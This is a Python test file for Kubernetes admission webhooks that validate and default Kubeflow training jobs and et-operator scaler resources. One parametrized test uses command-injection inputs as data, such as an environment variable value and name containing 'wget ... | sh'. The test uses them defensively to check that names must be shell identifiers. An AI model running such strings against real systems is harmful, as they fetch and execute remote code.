"""Admission decisions (shared/core/admitting.py): upstream's webhook messages, the stored defaults as a
JSONPatch, and what a review that is not one gets."""

from __future__ import annotations

import base64
import copy
import json
import pathlib
from typing import Any

import pytest
import yaml

from shared.api import jobs
from shared.core import admitting, defaulting, families
from sim.apiserver import patching

ROOT = pathlib.Path(__file__).resolve().parents[2]
HOOKS = {hook.name: hook for hook in families.REGISTRY.hooks}
DNS_DETAIL = ("should match: a DNS-1035 label must consist of lower case alphanumeric characters or '-', start with "
              "an alphabetic character, and end with an alphanumeric character (e.g. 'my-name',  or 'abc-123', regex "
              "used for validation is '[a-z]([-a-z0-9]*[a-z0-9])?')")


def validator(kind: str, version: str = "v1") -> admitting.Hook:
    return next(h for h in families.REGISTRY.hooks if not h.mutating and h.target.kind == kind and h.target.version == version)


def defaulter(kind: str, version: str = "v1") -> admitting.Hook:
    return next(h for h in families.REGISTRY.hooks if h.mutating and h.target.kind == kind and h.target.version == version)


def review(hook: admitting.Hook, obj: Any, operation: str = "CREATE", old: Any = None) -> dict[str, Any]:
    target = hook.target
    request: dict[str, Any] = {
        "uid": "7c5e", "kind": {"group": target.group, "version": target.version, "kind": target.kind},
        "operation": operation, "object": obj,
    }
    if old is not None:
        request["oldObject"] = old
    return {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": request}


def container(name: str, image: str = "busybox") -> dict[str, Any]:
    return {"name": name, "image": image}


def replica(*containers: dict[str, Any], **extra: Any) -> dict[str, Any]:
    return {"template": {"spec": {"containers": list(containers)}}, **extra}


def job(kind: str, replicas: dict[str, Any] | None, name: str = "test-job", **spec: Any) -> dict[str, Any]:
    body: dict[str, Any] = dict(spec)
    if replicas is not None:
        body[jobs.KINDS[kind].REPLICA_FIELD_ALIAS] = replicas
    return {"apiVersion": "kubeflow.org/v1", "kind": kind, "metadata": {"name": name, "namespace": "default"},
            "spec": body}


def pytorch(name: str = "test-job", **spec: Any) -> dict[str, Any]:
    return job("PyTorchJob", {"Master": replica(container("pytorch"), replicas=1),
                              "Worker": replica(container("pytorch"), replicas=2)}, name, **spec)


def answer(hook: admitting.Hook, obj: Any, **kw: Any) -> admitting.Answer:
    return admitting.review(hook, review(hook, obj, **kw))


def patched(obj: dict[str, Any], result: admitting.Answer) -> dict[str, Any]:
    """The object as the API server patches it with the answer's JSONPatch (sent base64-encoded)."""
    sent = result.review()["response"]
    if "patch" not in sent:
        return obj
    assert sent["patchType"] == "JSONPatch"
    return patching.json_patch(obj, json.loads(base64.b64decode(sent["patch"])))


# ---------------------------------------------------------------------------
# Validation: spec §13 cases 9–18 as the webhook answers them
# ---------------------------------------------------------------------------


def _set(doc: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    doc = copy.deepcopy(doc)
    *parents, last = path.split(".")
    node = doc
    for part in parents:
        node = node.setdefault(part, {}) if isinstance(node, dict) else node[int(part)]
    if isinstance(node, list):
        node[int(last)] = value
    else:
        node[last] = value
    return doc


WORKER = "spec.pytorchReplicaSpecs.Worker"


@pytest.mark.parametrize(("kind", "document", "message"), [
    pytest.param("PyTorchJob", pytorch("0-test"), f'metadata.name: Invalid value: "0-test": {DNS_DETAIL}',
                 id="9-name-not-dns-1035"),
    pytest.param("PyTorchJob", _set(pytorch(), f"{WORKER}.template.spec.containers", []),
                 "[spec.pytorchReplicaSpecs[Worker].template.spec.containers: Required value: must be specified, "
                 "spec.pytorchReplicaSpecs[Worker].template.spec.containers: Required value: must have at least one "
                 "container with name pytorch]", id="10-no-containers-two-errors"),
    pytest.param("PyTorchJob", _set(pytorch(), f"{WORKER}.template.spec.containers", [container("pytorch", "")]),
                 "spec.pytorchReplicaSpecs[Worker].template.spec.containers[0].image: Required value: must be required",
                 id="11-empty-image"),
    pytest.param("PyTorchJob", _set(pytorch(), f"{WORKER}.template.spec.containers", [container("")]),
                 "spec.pytorchReplicaSpecs[Worker].template.spec.containers: Required value: must have at least one "
                 "container with name pytorch", id="11-no-container-named-pytorch"),
    pytest.param("PyTorchJob", _set(pytorch(), "spec.pytorchReplicaSpecs.Master.replicas", 2),
                 "spec.pytorchReplicaSpecs[Master].replicas: Forbidden: must be 1", id="12-two-masters"),
    pytest.param("PyTorchJob", _set(pytorch(), "spec.pytorchReplicaSpecs.Master.replicas", None),
                 "spec.pytorchReplicaSpecs[Master].replicas: Forbidden: must be 1",
                 id="master-replicas-left-out-before-defaulting"),
    pytest.param("PyTorchJob", _set(_set(pytorch(), "spec.elasticPolicy", {"nProcPerNode": 1}), "spec.nprocPerNode", "1"),
                 "spec.elasticPolicy.nProcPerNode: Forbidden: must not be used with spec.nprocPerNode",
                 id="13-both-nproc-fields"),
    pytest.param("PyTorchJob", job("PyTorchJob", {"Master": replica(container("pytorch"), replicas=1)},
                                   elasticPolicy={}),
                 "spec.pytorchReplicaSpecs[Worker]: Required value: must be configured if elastic policy is used",
                 id="14-elastic-without-worker"),
    pytest.param("PyTorchJob", _set(pytorch(elasticPolicy={}), f"{WORKER}.replicas", 0),
                 "spec.pytorchReplicaSpecs[Worker].replicas: Forbidden: must be at least 1", id="14-zero-workers"),
    *(pytest.param(kind, _set(doc, "spec.runPolicy", {"managedBy": "other-job-controller"}),
                   'spec.runPolicy.managedBy: Unsupported value: "other-job-controller": supported values: '
                   '"kubeflow.org/training-operator", "kueue.x-k8s.io/multikueue"', id=f"15-managed-by-{kind}")
      for kind, doc in (
          ("PyTorchJob", pytorch()),
          ("TFJob", job("TFJob", {"Worker": replica(container("tensorflow"))})),
          ("XGBoostJob", job("XGBoostJob", {"Master": replica(container("xgboost"), replicas=1)})),
          ("PaddleJob", job("PaddleJob", {"Worker": replica(container("paddle"))})),
      )),
    pytest.param("TFJob", job("TFJob", {"Chief": replica(container("tensorflow")),
                                        "Master": replica(container("tensorflow"))}),
                 "spec.tfReplicaSpecs: Forbidden: must not have more than 1 Chief or Master role",
                 id="16-chief-and-master"),
    pytest.param("TFJob", job("TFJob", {"Worker": replica(container("tf"))}),
                 "spec.tfReplicaSpecs[Worker].template.spec.containers: Required value: must have at least one "
                 "container with name tensorflow", id="16-no-tensorflow-container"),
    pytest.param("XGBoostJob", job("XGBoostJob", {"Worker": replica(container("xgboost"))}),
                 "spec.xgbReplicaSpecs[Master]: Required value: must be present", id="17-no-master"),
    pytest.param("XGBoostJob", job("XGBoostJob", {"Master": replica(container("xgboost"), replicas=2)}),
                 "spec.xgbReplicaSpecs[Master].replicas: Forbidden: must be 1", id="17-two-masters"),
    pytest.param("PaddleJob", job("PaddleJob", None), "spec.paddleReplicaSpecs: Required value: must be required",
                 id="18-paddle-no-map"),
    pytest.param("JAXJob", job("JAXJob", None), "spec.jaxReplicaSpecs: Required value: must be required",
                 id="18-jax-no-map"),
    pytest.param("PaddleJob", job("PaddleJob", {"Worker": replica(container("pd"))}),
                 'spec.paddleReplicaSpecs[Worker].template.spec.containers: Required value: must have at least one '
                 'container with name "paddle"', id="18-no-paddle-container"),
    pytest.param("JAXJob", job("JAXJob", {"Worker": replica(container("j"))}),
                 "spec.jaxReplicaSpecs[Worker].template.spec.containers: Required value: must have at least one "
                 "container with name jax", id="18-no-jax-container"),
])
def test_an_invalid_job_is_denied_with_upstreams_message(kind: str, document: dict[str, Any], message: str) -> None:
    result = answer(validator(kind), document)
    assert not result.allowed
    assert result.review()["response"]["status"] == {"code": 403, "reason": "Forbidden", "message": message}


def test_the_deprecated_nproc_field_is_allowed_with_upstreams_warning() -> None:
    result = answer(validator("PyTorchJob"), pytorch(elasticPolicy={"nProcPerNode": 1}))
    assert result.allowed
    assert result.review()["response"]["warnings"] == [
        "spec.elasticPolicy.nProcPerNode is deprecated, use spec.nprocPerNode instead"]


def test_a_denial_keeps_the_warning_too() -> None:
    result = answer(validator("PyTorchJob"), pytorch(elasticPolicy={"nProcPerNode": 1}, nprocPerNode="1"))
    assert not result.allowed and result.warnings


@pytest.mark.parametrize(("old", "new", "message"), [
    pytest.param({"managedBy": "kubeflow.org/training-operator"}, {"managedBy": "kueue.x-k8s.io/multikueue"},
                 'spec.runPolicy.managedBy: Invalid value: "kueue.x-k8s.io/multikueue": field is immutable',
                 id="15-managed-by-immutable"),
    pytest.param({"schedulingPolicy": {"queue": "initial-queue"}}, {"schedulingPolicy": {"queue": "test"}},
                 'spec.runPolicy.schedulingPolicy.queue: Invalid value: "test": '
                 "spec.runPolicy.schedulingPolicy.queue is immutable", id="19-queue-immutable"),
])
def test_an_update_of_an_immutable_field_is_denied(old: dict[str, Any], new: dict[str, Any], message: str) -> None:
    result = answer(validator("PyTorchJob"), pytorch(runPolicy=new), operation="UPDATE", old=pytorch(runPolicy=old))
    assert (result.allowed, result.message) == (False, message)


def test_an_update_that_leaves_the_spec_alone_is_allowed_even_on_an_invalid_job() -> None:
    """A stored job from before the webhook must still take its finalizers off and its labels."""
    invalid = _set(pytorch(), "spec.pytorchReplicaSpecs.Master.replicas", 2)
    relabelled = _set(invalid, "metadata.labels", {"team": "a"})
    for hook in (validator("PyTorchJob"), defaulter("PyTorchJob")):
        result = answer(hook, relabelled, operation="UPDATE", old=invalid)
        assert result.allowed and not result.patch


def test_mpijob_v1_has_no_webhook_as_upstream() -> None:
    assert not [h for h in families.REGISTRY.hooks if h.target.kind == "MPIJob" and h.target.version == "v1"]


def test_the_five_upstream_validators_keep_upstreams_names_and_paths() -> None:
    upstream = sorted((h.name, h.path) for h in families.REGISTRY.hooks
                      if h.target.upstream and not h.mutating and h.target.group == jobs.GROUP)
    assert upstream == sorted(
        (f"validator.{kind}.training-operator.kubeflow.org", f"/validate-kubeflow-org-v1-{kind}")
        for kind in ("pytorchjob", "tfjob", "xgboostjob", "paddlejob", "jaxjob"))


# ---------------------------------------------------------------------------
# Defaulting as a JSONPatch
# ---------------------------------------------------------------------------


def upstream_examples() -> list[Any]:
    found = []
    for path in sorted((ROOT / "examples" / "kubeflow").rglob("*.yaml")):
        for document in yaml.safe_load_all(path.read_text()):
            if isinstance(document, dict) and document.get("apiVersion") == "kubeflow.org/v1" \
                    and document.get("kind") != "MPIJob":
                found.append(pytest.param(document, id=f"{path.parent.name}-{path.stem}"))
    return found


@pytest.mark.parametrize("document", upstream_examples())
def test_an_upstream_example_is_stored_with_the_defaults_that_depend_on_nothing_else(document: dict[str, Any]) -> None:
    kind = document["kind"]
    result = answer(defaulter(kind), document)
    assert result.allowed and answer(validator(kind), document).allowed
    stored = patched(document, result)
    loaded = jobs.load(stored)
    assert stored["spec"]["runPolicy"]["cleanPodPolicy"] == document["spec"].get("runPolicy", {}).get(
        "cleanPodPolicy", "None")
    assert all(spec.replicas is not None and spec.restart_policy for spec in loaded.specs().values())
    # What the reconciler works from is the same with or without what admission stored.
    assert defaulting.set_defaults(loaded).dump() == defaulting.set_defaults(jobs.load(document)).dump()
    # And the stored object is accepted again, unchanged, on its next update.
    assert answer(validator(kind), stored).allowed
    assert not answer(defaulter(kind), stored).patch


def test_the_patch_touches_no_list_so_reapplying_an_unchanged_file_writes_nothing() -> None:
    """A custom resource is patched by ``kubectl apply`` with a JSON merge patch, which replaces lists
    whole: a default port added to ``containers`` would be sent back on every apply."""
    document = job("TFJob", {"Worker": replica({"name": "tensorflow", "image": "tf",
                                                "ports": [{"name": "customPort", "containerPort": 1234}]})})
    result = answer(defaulter("TFJob"), document)
    assert sorted(op["path"] for op in result.patch) == [
        "/spec/runPolicy", "/spec/successPolicy", "/spec/tfReplicaSpecs/Worker/replicas",
        "/spec/tfReplicaSpecs/Worker/restartPolicy"]
    stored = patched(document, result)
    assert stored["spec"]["tfReplicaSpecs"]["Worker"]["template"] == document["spec"]["tfReplicaSpecs"]["Worker"][
        "template"]
    ports = defaulting.set_defaults(jobs.load(stored)).specs()["Worker"].template["spec"]["containers"][0]["ports"]
    assert ports == [{"name": "customPort", "containerPort": 1234}, {"name": "tfjob-port", "containerPort": 2222}]


def test_derived_defaults_and_key_renames_are_left_to_reconcile_time() -> None:
    """Stored, elastic bounds taken from Worker.replicas would stop following it on the next apply."""
    document = job("TFJob", {"WORKER": replica(container("tensorflow"), replicas=3)})
    stored = patched(document, answer(defaulter("TFJob"), document))
    assert list(stored["spec"]["tfReplicaSpecs"]) == ["WORKER"]
    elastic = pytorch(elasticPolicy={})
    stored = patched(elastic, answer(defaulter("PyTorchJob"), elastic))
    assert stored["spec"]["elasticPolicy"] == {} and "nprocPerNode" not in stored["spec"]


def test_an_invalid_job_gets_no_defaults_so_the_validator_sees_it_as_written() -> None:
    document = _set(pytorch(), "spec.pytorchReplicaSpecs.Master.replicas", None)
    result = answer(defaulter("PyTorchJob"), document)
    assert result.allowed and result.patch == ()


def test_an_mpijob_v2beta1_is_defaulted_and_validated_as_mpi_operators_controller_does() -> None:
    document = {"apiVersion": "kubeflow.org/v2beta1", "kind": "MPIJob", "metadata": {"name": "pi"},
                "spec": {"mpiReplicaSpecs": {"Launcher": replica(container("l")), "Worker": replica(container("w"))}}}
    result = answer(defaulter("MPIJob", "v2beta1"), document)
    stored = patched(document, result)
    assert stored["spec"]["mpiReplicaSpecs"]["Launcher"]["replicas"] == 1
    assert stored["spec"]["mpiReplicaSpecs"]["Worker"] == {**replica(container("w")), "replicas": 0,
                                                           "restartPolicy": "Never"}
    assert stored["spec"]["mpiImplementation"] == "OpenMPI"
    denied = answer(validator("MPIJob", "v2beta1"), stored)
    assert denied.message == ("spec.mpiReplicaSpecs[Worker].replicas: Invalid value: 0: must be greater than or "
                              "equal to 1")


def test_et_operator_kinds_are_validated_and_a_trainingjob_defaulted() -> None:
    example = yaml.safe_load((ROOT / "examples" / "et-operator" / "training_job.yaml").read_text())
    hook = next(h for h in families.REGISTRY.hooks if h.target.kind == "TrainingJob" and h.mutating)
    stored = patched(example, admitting.review(hook, review(hook, example)))
    assert stored["spec"]["launcherAttachMode"] == "ssh" and stored["spec"]["backoffLimit"] == 6
    scale_in = {"apiVersion": "kai.alibabacloud.com/v1alpha1", "kind": "ScaleIn", "metadata": {"name": "s"},
                "spec": {"toDelete": {"count": 1}, "timeout": 0}}
    hook = next(h for h in families.REGISTRY.hooks if h.target.kind == "ScaleIn")
    result = admitting.review(hook, review(hook, scale_in))
    assert result.message == ("[spec.selector.name: Required value: the TrainingJob to scale, "
                              "spec.timeout: Invalid value: 0: must be greater than 0]")



@pytest.mark.parametrize(("env", "message"), [
    pytest.param([{"name": "OK_1", "value": "1; wget http://x | sh #"}], None, id="any-value-is-allowed-it-is-quoted"),
    pytest.param([{"name": "_A"}, {"name": "a9"}], None, id="identifiers-are-allowed"),
    pytest.param([{"name": "A"}, {"name": "B"}, {"name": "A;wget x|sh"}],
                 "spec.env[2].name: Invalid value: must be a shell variable name: a letter or '_', then letters, "
                 "digits or '_' ([A-Za-z_][A-Za-z0-9_]*)", id="a-semicolon-in-the-third-name"),
    pytest.param([{"name": "9LIVES"}], "spec.env[0].name: Invalid value: must be a shell variable name: a letter "
                 "or '_', then letters, digits or '_' ([A-Za-z_][A-Za-z0-9_]*)", id="a-leading-digit"),
    pytest.param([{"name": "A-B"}], "spec.env[0].name: Invalid value: must be a shell variable name: a letter or "
                 "'_', then letters, digits or '_' ([A-Za-z_][A-Za-z0-9_]*)", id="a-dash"),
    pytest.param([{"name": "A B"}], "spec.env[0].name: Invalid value: must be a shell variable name: a letter or "
                 "'_', then letters, digits or '_' ([A-Za-z_][A-Za-z0-9_]*)", id="a-space"),
    pytest.param([{"name": "A\nB"}], "spec.env[0].name: Invalid value: must be a shell variable name: a letter or "
                 "'_', then letters, digits or '_' ([A-Za-z_][A-Za-z0-9_]*)", id="a-newline"),
    pytest.param([{"name": ""}], "spec.env[0].name: Required value", id="empty"),
])
def test_a_scalers_env_names_must_be_shell_identifiers(env: list[dict[str, str]], message: str | None) -> None:
    for kind, spec in (("ScaleIn", {"toDelete": {"count": 1}}), ("ScaleOut", {"toAdd": {"count": 1}})):
        scaler = {"apiVersion": "kai.alibabacloud.com/v1alpha1", "kind": kind, "metadata": {"name": "s"},
                  "spec": {**spec, "selector": {"name": "job"}, "env": env}}
        hook = next(h for h in families.REGISTRY.hooks if h.target.kind == kind)
        result = admitting.review(hook, review(hook, scaler))
        assert (result.allowed, result.message or None) == (message is None, message)


# ---------------------------------------------------------------------------
# What is not a review, or not one to judge
# ---------------------------------------------------------------------------


@pytest.mark.parametrize(("body", "message"), [
    pytest.param([1, 2], "the body must be an AdmissionReview object, not a JSON array", id="an-array"),
    pytest.param({"apiVersion": "admission.k8s.io/v1beta1", "kind": "AdmissionReview", "request": {"uid": "u"}},
                 "expected an AdmissionReview of admission.k8s.io/v1, got apiVersion='admission.k8s.io/v1beta1', "
                 "kind='AdmissionReview'", id="v1beta1"),
    pytest.param({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview"},
                 "request: Required value: an AdmissionReview sent to a webhook carries a request", id="no-request"),
    pytest.param({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": {"uid": 7}},
                 "request.uid: Required value", id="no-uid"),
])
def test_a_body_that_is_not_a_review_is_a_bad_review(body: Any, message: str) -> None:
    with pytest.raises(admitting.BadReview) as raised:
        admitting.review(validator("PyTorchJob"), body)
    assert str(raised.value) == message


def test_a_review_of_another_kind_is_a_400_denial_naming_the_hook() -> None:
    hook = validator("PyTorchJob")
    body = review(validator("TFJob"), job("TFJob", {"Worker": replica(container("tensorflow"))}))
    result = admitting.review(hook, body)
    assert (result.allowed, result.code, result.reason) == (False, 400, "BadRequest")
    assert result.message == ("this webhook admits PyTorchJob of kubeflow.org/v1, not 'TFJob' of 'kubeflow.org'/'v1': "
                              "check the rules of validator.pytorchjob.training-operator.kubeflow.org")


def test_delete_is_not_judged_and_a_create_without_an_object_is_a_400() -> None:
    assert answer(validator("PyTorchJob"), None, operation="DELETE").allowed
    result = answer(validator("PyTorchJob"), None)
    assert (result.allowed, result.code) == (False, 400)


def test_an_object_nested_past_the_limit_is_denied_before_anything_loads_it() -> None:
    deep: Any = "x"
    for _ in range(300):
        deep = {"a": deep}
    document = _set(pytorch(), "spec.pytorchReplicaSpecs.Worker.template.spec.extra", deep)
    result = answer(validator("PyTorchJob"), document)
    assert result.message == ("spec.pytorchReplicaSpecs[Worker].template.spec.extra.a.a.a.a.a.a…: "
                              "Invalid value: nested 305 levels deep; kto's limit is 64 levels")
    assert answer(defaulter("PyTorchJob"), document) == admitting.Answer("7c5e", True)


def test_an_object_over_the_size_limit_is_denied_naming_the_field() -> None:
    document = _set(pytorch(), "metadata.annotations", {"blob": "x" * 600_000})
    result = answer(validator("PyTorchJob"), document)
    assert result.message.startswith("metadata.annotations.blob: Invalid value: the object is ")


def test_a_wrongly_typed_field_is_denied_with_its_path() -> None:
    document = _set(pytorch(), "spec.pytorchReplicaSpecs.Worker.replicas", "two")
    result = answer(validator("PyTorchJob"), document)
    assert result.message.startswith("spec.pytorchReplicaSpecs[Worker].replicas: Input should be a valid integer")
    assert answer(defaulter("PyTorchJob"), document).patch == ()


def test_json_patch_paths_escape_slashes_and_tildes() -> None:
    assert admitting.diff({"a/b": 1, "c~d": {}}, {"a/b": 2, "c~d": {"e": 1}}) == [
        {"op": "replace", "path": "/a~1b", "value": 2}, {"op": "add", "path": "/c~0d/e", "value": 1}]
    assert admitting.diff({"x": 1}, {"x": True}) == [{"op": "replace", "path": "/x", "value": True}]
